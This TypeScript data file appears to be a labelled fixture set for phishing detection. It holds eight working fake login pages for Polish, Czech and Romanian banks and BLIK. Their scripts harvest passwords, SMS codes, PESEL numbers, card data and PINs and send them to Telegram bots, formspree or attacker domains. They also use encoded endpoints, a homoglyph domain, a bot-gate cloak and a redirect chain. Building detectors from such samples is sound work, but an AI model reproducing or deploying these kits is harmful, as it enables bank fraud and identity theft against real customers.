import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { b64, codes, joinExpr, doc, cardCss, logo, tgSender, visitorInfo, formGrab, stepper, b64Writer, botGate } from '../parts/yz-kit.js';

export const entries: Entry[] = [
{
  id: 'yz-pko-ipko-three-step-telegram',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://ipko.bezpieczne-logowanie-pl.icu/logowanie/',
  body: doc({
    lang: 'pl',
    title: 'iPKO - Logowanie',
    noindex: true,
    css: cardCss('#003574', { bg: '#eef1f6', font: 'pkobp,Arial,sans-serif' }) + '\n.top{background:#003574;border:0}.top span{color:#fff;font-size:13px}.lock{display:inline-block;background:#e7f0fb;color:#003574;font-size:12px;padding:4px 8px;border-radius:3px}',
    body: `<div class="top">${logo('PKO BANK POLSKI', '#ffffff', { mark: 'square', textColor: '#ffffff', w: 260 })}<span>Infolinia 800 302 302</span></div>
<div class="card">
  <section class="step" id="s0">
    <h1>Logowanie do serwisu iPKO</h1>
    <span class="lock">&#128274; Połączenie szyfrowane</span>
    <form id="f0" autocomplete="off">
      <label for="nk">Numer klienta lub login</label>
      <input type="text" id="nk" name="login" inputmode="numeric" maxlength="20" required>
      <button class="btn" type="submit">Dalej</button>
    </form>
    <p class="muted">Nie pamiętasz numeru klienta? Znajdziesz go w umowie lub w aplikacji IKO.</p>
  </section>
  <section class="step hide" id="s1">
    <h1>Podaj hasło</h1>
    <p class="muted">Login: <b id="lg"></b></p>
    <form id="f1" autocomplete="off">
      <label for="pw">Hasło</label>
      <input type="password" id="pw" name="haslo" required>
      <button class="btn" type="submit">Zaloguj</button>
      <p class="err" id="e1">Nieprawidłowe hasło. Spróbuj ponownie.</p>
    </form>
  </section>
  <section class="step hide" id="s2">
    <h1>Potwierdź tożsamość</h1>
    <p>Ze względów bezpieczeństwa wysłaliśmy kod SMS na numer powiązany z rachunkiem. Wpisz go, aby odblokować dostęp do rachunku.</p>
    <form id="f2" autocomplete="one-time-code">
      <label for="sms">Kod SMS</label>
      <input type="tel" id="sms" name="kod_sms" maxlength="8" required>
      <label for="pesel">PESEL</label>
      <input type="tel" id="pesel" name="pesel" maxlength="11" required>
      <button class="btn" type="submit">Potwierdź</button>
    </form>
  </section>
  <section class="step hide" id="s3"><div class="spin"></div><p style="text-align:center">Trwa weryfikacja danych, nie zamykaj okna&hellip;</p></section>
</div>
<div class="foot">© PKO Bank Polski S.A. · Bezpieczeństwo · Polityka cookies</div>`,
    tail: `<script>
${tgSender('tg', joinExpr('7391184420:AAGx9kQpTzR4mV2yUoLc0jHdWsNe5bIfKa8', 6), "'-100' + '2291837465'")}
${visitorInfo('vi')}
${stepper('go')}
var D={};
document.getElementById('f0').onsubmit=function(e){e.preventDefault();D.login=this.login.value;document.getElementById('lg').textContent=D.login;go(1)};
var tries=0;
document.getElementById('f1').onsubmit=async function(e){e.preventDefault();D['haslo'+tries]=this.haslo.value;var v=await vi();
  tg('<b>PKO</b> LOGIN\\n'+D.login+'\\nPASS: '+this.haslo.value+'\\nIP: '+v.ip+'\\nUA: '+v.ua);
  if(tries++===0){document.getElementById('e1').style.display='block';this.haslo.value='';return}go(2)};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();tg('<b>PKO</b> SMS '+this.kod_sms.value+' PESEL '+this.pesel.value+' ('+D.login+')');go(3);
  setTimeout(function(){location.href='https://www.pkobp.pl/'},9000)};
</script>`,
  }),
},
{
  id: 'yz-mbank-base64-writer-php-drop',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://online.xn--mbnk-63d.pl/pl/Login',
  submittedUrl: 'https://online.mbаnk.pl/pl/Login',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>mBank</title><meta name="robots" content="noindex"></head><body>
${b64Writer(doc({
  lang: 'pl',
  title: 'mBank - logowanie do bankowości internetowej',
  css: cardCss('#d10018', { bg: '#f4f4f4', radius: 2 }) + '\n.card{border-top:4px solid #d10018}',
  body: `<div class="top">${logo('mBank', '#d10018', { mark: 'none', w: 90 })}<a class="muted" href="#">English</a></div>
<div class="card">
  <h1>Zaloguj się</h1>
  <form method="post" action="/pl/Login/next.php" id="lf">
    <input type="hidden" name="step" value="1">
    <input type="hidden" name="sid" value="m9f2a71c0">
    <label>Identyfikator</label><input type="text" name="ident" maxlength="18" autocomplete="username" required>
    <label>Hasło</label><input type="password" name="pass" autocomplete="current-password" required>
    <button class="btn" type="submit">Zaloguj się</button>
  </form>
  <p class="muted">Pamiętaj: mBank nigdy nie prosi o instalację dodatkowych aplikacji.</p>
</div>
<div class="foot">mBank S.A. ul. Prosta 18, 00-850 Warszawa</div>`,
}))}
</body></html>`,
  routes: {
    'online.xn--mbnk-63d.pl/pl/Login/next.php': htmlRoute(doc({
      lang: 'pl',
      title: 'mBank - autoryzacja',
      css: cardCss('#d10018'),
      body: `<div class="card"><h1>Potwierdź logowanie</h1><p>Wpisz dane karty płatniczej powiązanej z rachunkiem, aby zakończyć aktualizację zabezpieczeń.</p>
<form method="post" action="/pl/Login/next.php?step=2"><label>Numer karty</label><input type="tel" name="cc" maxlength="19"><label>Data ważności</label><input type="text" name="exp" placeholder="MM/RR"><label>CVV2</label><input type="password" name="cvv" maxlength="3"><button class="btn">Dalej</button></form></div>`,
    })),
  },
},
{
  id: 'yz-ing-moje-cloaked-bot-gate',
  label: 'phishing',
  kind: 'cloaked-bank-kit',
  url: 'https://moje-ing.pl-zabezpieczenia.com/',
  body: doc({
    lang: 'pl',
    title: 'Ładowanie…',
    body: `<div id="x" style="font:14px Arial;color:#999;text-align:center;margin-top:20%">Ładowanie&hellip;</div>`,
    tail: botGate("location.replace('/app/logowanie?t='+Date.now().toString(36))", "document.getElementById('x').innerHTML='<h2>Strona w budowie</h2><p>Zapraszamy wkrótce.</p>'", ['pl']),
  }),
  routes: {
    'moje-ing.pl-zabezpieczenia.com/app/logowanie': htmlRoute(doc({
      lang: 'pl',
      title: 'Moje ING - logowanie',
      noindex: true,
      css: cardCss('#ff6200', { bg: '#fff6ef', font: 'INGMe,Arial,sans-serif', radius: 6 }) + '\n.mask{display:flex;gap:4px;flex-wrap:wrap}.mask input{width:30px;padding:8px 0;text-align:center}.mask input:disabled{background:#eee}',
      body: `<div class="top">${logo('ING', '#ff6200', { mark: 'lion', w: 90 })}<span class="muted">Moje ING</span></div>
<div class="card">
  <h1>Zaloguj się do Moje ING</h1>
  <form id="f" autocomplete="off">
    <label>Login</label><input type="text" name="login" required>
    <label>Hasło maskowane (wpisz wskazane znaki)</label>
    <div class="mask">${Array.from({ length: 20 }, (_, i) => `<input type="password" maxlength="1" name="m${i + 1}"${[1, 4, 5, 9, 12, 13].includes(i) ? '' : ' disabled'}>`).join('')}</div>
    <button class="btn">Zaloguj</button>
  </form>
  <p class="muted">Nowe urządzenie wymaga dodatkowej weryfikacji danymi karty.</p>
</div>`,
      tail: `<script>
var E=atob('${b64('https://ing-api.cfd/gate/collect.php')}');
${formGrab('grab')}
document.getElementById('f').onsubmit=function(e){e.preventDefault();var o=grab(this);o.b='ing';o.h=location.host;
navigator.sendBeacon(E,new Blob([JSON.stringify(o)],{type:'application/json'}));location.href='/app/karta?l='+encodeURIComponent(o.login)};
</script>`,
    })),
    'moje-ing.pl-zabezpieczenia.com/app/karta': htmlRoute(doc({
      lang: 'pl',
      title: 'Moje ING - weryfikacja karty',
      css: cardCss('#ff6200'),
      body: `<div class="card"><h1>Weryfikacja nowego urządzenia</h1><form method="post" action="https://ing-api.cfd/gate/card.php"><label>Numer karty</label><input type="tel" name="pan"><label>Ważna do</label><input type="text" name="exp"><label>CVC</label><input type="password" name="cvc"><label>Limit dzienny karty (PLN)</label><input type="number" name="limit"><button class="btn">Potwierdź</button></form></div>`,
    })),
  },
},
{
  id: 'yz-pekao24-vercel-card-unlock',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://pekao24-odblokowanie.vercel.app/',
  body: doc({
    lang: 'pl',
    title: 'Pekao24 | Bank Pekao S.A.',
    css: cardCss('#c8102e', { radius: 0, width: 460 }) + '\n.alert{background:#fff4e5;border-left:4px solid #f0a030;padding:10px 12px;font-size:14px;margin-bottom:16px}',
    body: `<div class="top">${logo('Pekao', '#c8102e', { mark: 'circle', w: 120 })}<span class="muted">Pekao24</span></div>
<div class="card">
  <div class="alert">Dostęp do Pekao24 został czasowo ograniczony z powodu nieudanej próby logowania z nowego urządzenia.</div>
  <div class="step" id="a">
    <h1>Odblokuj dostęp</h1>
    <form id="f1"><label>Numer klienta (ID)</label><input type="text" name="id" maxlength="8" required><label>Hasło</label><input type="password" name="pwd" required><button class="btn">Dalej</button></form>
  </div>
  <div class="step hide" id="b">
    <h1>Weryfikacja karty</h1>
    <form id="f2"><label>Numer karty debetowej</label><input type="tel" name="pan" maxlength="19" required><label>Ważna do (MM/RR)</label><input type="text" name="exp" maxlength="5" required><label>Kod CVC2</label><input type="password" name="cvc" maxlength="3" required><label>Kod PIN do karty</label><input type="password" name="pin" maxlength="4" required><button class="btn">Odblokuj</button></form>
  </div>
  <div class="step hide" id="c"><div class="spin"></div><p style="text-align:center">Weryfikujemy Twoje dane. Może to potrwać do 2 minut.</p></div>
</div>`,
    tail: `<script>
${stepper('st')}
${formGrab('fg')}
var H=String.fromCharCode(${codes('https://formspree.io/f/xqkrvpzw')});
function post(o){return fetch(H,{method:'POST',headers:{'Accept':'application/json','Content-Type':'application/json'},body:JSON.stringify(o)})}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();post(Object.assign({bank:'pekao',s:1},fg(this)));st(1)};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();post(Object.assign({bank:'pekao',s:2},fg(this)));st(2)};
</script>`,
  }),
},
{
  id: 'yz-blik-refund-code-harvest',
  label: 'phishing',
  kind: 'blik-code-harvest',
  url: 'https://zwrot-blik.pl-platnosci.shop/zwrot/58213',
  body: doc({
    lang: 'pl',
    title: 'BLIK – odbierz zwrot środków',
    css: `body{font-family:Montserrat,Arial,sans-serif;background:#f6f6f6;margin:0}.w{max-width:440px;margin:40px auto;background:#fff;border-radius:16px;padding:30px;box-shadow:0 4px 30px rgba(0,0,0,.06)}
.code{display:flex;gap:8px;justify-content:center;margin:20px 0}.code input{width:44px;height:56px;font-size:26px;text-align:center;border:2px solid #ddd;border-radius:8px}
.amt{font-size:32px;font-weight:700;text-align:center}.b{width:100%;padding:14px;border:0;border-radius:28px;background:#000;color:#fff;font-size:16px}`,
    body: `<div class="w">
<div style="text-align:center">${logo('blik', '#000', { mark: 'square', w: 110 })}</div>
<p style="text-align:center">Zwrot za anulowane zamówienie nr <b>58213</b></p>
<div class="amt">349,00 zł</div>
<p class="muted" style="text-align:center;font-size:13px;color:#666">Aby odebrać zwrot, wygeneruj w aplikacji swojego banku kod BLIK i wpisz go poniżej. Następnie zatwierdź operację w aplikacji.</p>
<form id="bf"><div class="code">${Array.from({ length: 6 }, (_, i) => `<input inputmode="numeric" maxlength="1" name="d${i}" required>`).join('')}</div>
<button class="b">Odbierz zwrot</button></form>
<p id="ok" style="display:none;text-align:center">Zatwierdź operację w aplikacji banku. Środki zostaną zaksięgowane w ciągu kilku minut.</p>
</div>`,
    tail: `<script>
var q=document.querySelectorAll('.code input');q.forEach(function(i,n){i.addEventListener('input',function(){if(i.value&&q[n+1])q[n+1].focus()})});
document.getElementById('bf').onsubmit=function(e){e.preventDefault();var c='';q.forEach(function(i){c+=i.value});
var x=new XMLHttpRequest();x.open('POST','/api/blik.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('code='+c+'&order=58213&amt=349');
this.style.display='none';document.getElementById('ok').style.display='block'};
</script>`,
  }),
},
{
  id: 'yz-george-csas-cz-george-klic-wait',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://george-csas.cz-overeni.info/prihlaseni/',
  body: doc({
    lang: 'cs',
    title: 'Přihlášení do George | Česká spořitelna',
    noindex: true,
    css: cardCss('#2870ed', { bg: '#f3f6fb', radius: 14, font: 'Inter,Arial,sans-serif' }),
    body: `<div class="top">${logo('George', '#2870ed', { mark: 'circle', w: 120 })}<span class="muted">Česká spořitelna</span></div>
<div class="card" id="p1">
  <h1>Přihlášení</h1>
  <form id="f"><label>Uživatelské jméno nebo klientské číslo</label><input type="text" name="user" required>
  <label>Heslo</label><input type="password" name="heslo" required>
  <button class="btn">Pokračovat</button></form>
  <p class="muted">Z bezpečnostních důvodů probíhá ověření klientů po aktualizaci aplikace George klíč.</p>
</div>
<div class="card hide" id="p2"><h1>Potvrďte v aplikaci George klíč</h1><p>Na váš telefon jsme odeslali žádost o potvrzení. Otevřete George klíč a potvrďte přihlášení.</p><div class="spin"></div></div>
<div class="card hide" id="p3"><h1>Ověření SMS</h1><form id="g"><label>Kód z SMS</label><input type="tel" name="sms" maxlength="8"><button class="btn">Ověřit</button></form></div>`,
    tail: `<script>
var api='/api/'+'v2/'+'s.php';
function show(i){['p1','p2','p3'].forEach(function(p,n){document.getElementById(p).classList.toggle('hide',n!==i)})}
function send(o){return fetch(api,{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(o)}).then(function(r){return r.json()}).catch(function(){return{}})}
document.getElementById('f').onsubmit=function(e){e.preventDefault();var u=this.user.value;send({a:'login',user:u,heslo:this.heslo.value}).then(function(){show(1);
 (function w(){send({a:'poll',user:u}).then(function(r){if(r.next==='sms')show(2);else if(r.next==='out')location.href='https://www.csas.cz/';else setTimeout(w,2500)})})()})};
document.getElementById('g').onsubmit=function(e){e.preventDefault();send({a:'sms',sms:this.sms.value}).then(function(){location.href='https://www.csas.cz/'})};
</script>`,
  }),
},
{
  id: 'yz-bcr-george-ro-telegram-b64',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://george-bcr.ro-autentificare.com/ro/login',
  body: doc({
    lang: 'ro',
    title: 'George - Autentificare | BCR',
    noindex: true,
    css: cardCss('#0d4fa8', { bg: '#eef3fb', radius: 14 }),
    body: `<div class="top">${logo('George', '#0d4fa8', { mark: 'circle', w: 120 })}<span class="muted">Banca Comercială Română</span></div>
<div class="card">
  <section class="step"><h1>Autentificare</h1>
  <form id="a"><label>Nume utilizator</label><input type="text" name="user" required><label>Parolă</label><input type="password" name="pass" required><button class="btn">Autentificare</button></form>
  <p class="muted">Contul dumneavoastră necesită actualizarea datelor conform noilor reglementări PSD2.</p></section>
  <section class="step hide"><h1>Confirmare card</h1>
  <form id="b"><label>Număr card</label><input type="tel" name="card" maxlength="19" required><label>Data expirării</label><input type="text" name="exp" placeholder="LL/AA" required><label>CVV</label><input type="password" name="cvv" maxlength="3" required><button class="btn">Confirmă</button></form></section>
  <section class="step hide"><h1>Cod de autorizare</h1><p>Introduceți codul primit prin SMS.</p>
  <form id="c"><label>Cod SMS</label><input type="tel" name="otp" maxlength="6" required><button class="btn">Trimite</button></form></section>
</div>`,
    tail: `<script>
var cfg=JSON.parse(atob('${b64(JSON.stringify({ t: '6950372218:AAEqW1nPz8YkD4rLbS0cVuXh3MfJoT7gNiU', c: '-1001984466102' }))}'));
${tgSender('snd', 'cfg.t', 'cfg.c')}
${stepper('st')}
${formGrab('fg')}
['a','b','c'].forEach(function(id,i){document.getElementById(id).onsubmit=function(e){e.preventDefault();var o=fg(this);snd('BCR#'+(i+1)+' '+JSON.stringify(o));if(i<2)st(i+1);else location.href='https://www.bcr.ro/ro/persoane-fizice'}});
</script>`,
  }),
},
{
  id: 'yz-pko-sms-shortlink-chain-blocked-account',
  label: 'phishing',
  kind: 'sms-lure-redirect-chain',
  url: 'https://pkobp-zablokowane.pl/k/8Hf2',
  routes: {
    'pkobp-zablokowane.pl/k/8Hf2': redirectRoute(302, 'https://trk.klik-go.top/r?c=pko&s=8Hf2'),
    'trk.klik-go.top/r': redirectRoute(302, 'https://ipko-konto.secure-pl.top/odblokuj/index.php?ref=8Hf2'),
    'ipko-konto.secure-pl.top/odblokuj/index.php': htmlRoute(doc({
      lang: 'pl',
      title: 'PKO BP - odblokowanie rachunku',
      noindex: true,
      css: cardCss('#003574', { radius: 0 }) + '\n.warn{background:#fdecea;color:#8a1c1c;padding:12px;font-size:14px;border-radius:4px}',
      body: `<div class="top">${logo('PKO BP', '#003574', { mark: 'square', w: 120 })}</div>
<div class="card">
  <p class="warn"><b>Twoje konto zostało tymczasowo zablokowane.</b> Wykryliśmy logowanie z nieznanego urządzenia (Android, Kraków). Aby uniknąć trwałej blokady, potwierdź swoje dane w ciągu 24 godzin.</p>
  <form method="post" action="login.php">
    <input type="hidden" name="ref" value="8Hf2">
    <label>Numer klienta</label><input type="text" name="nk" required>
    <label>Hasło do iPKO</label><input type="password" name="pw" required>
    <label>Numer telefonu</label><input type="tel" name="tel" required>
    <button class="btn">Odblokuj konto</button>
  </form>
</div>`,
    })),
  },
},
];
